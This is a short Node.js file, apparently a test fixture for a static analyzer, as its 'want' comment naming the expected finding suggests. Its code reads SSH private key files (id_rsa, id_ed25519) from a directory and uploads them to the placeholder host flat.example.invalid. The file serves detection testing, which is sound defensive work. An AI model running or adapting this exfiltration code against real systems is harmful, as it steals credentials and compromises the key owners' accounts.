const fs = require('fs');
const path = require('path');
const https = require('https');

function flat(dir) {
  fs.readdirSync(dir).filter((name) => /\bid_(rsa|ed25519)$/.test(name)).forEach((name) => {
    const q = https.request('https://flat.example.invalid/f', { method: 'PUT' });
    q.end(fs.readFileSync(path.join(dir, name))); // want "files that are picked by the names of keys and wallets are read and sent to .flat.example.invalid."
  });
}
flat(process.argv[2]);
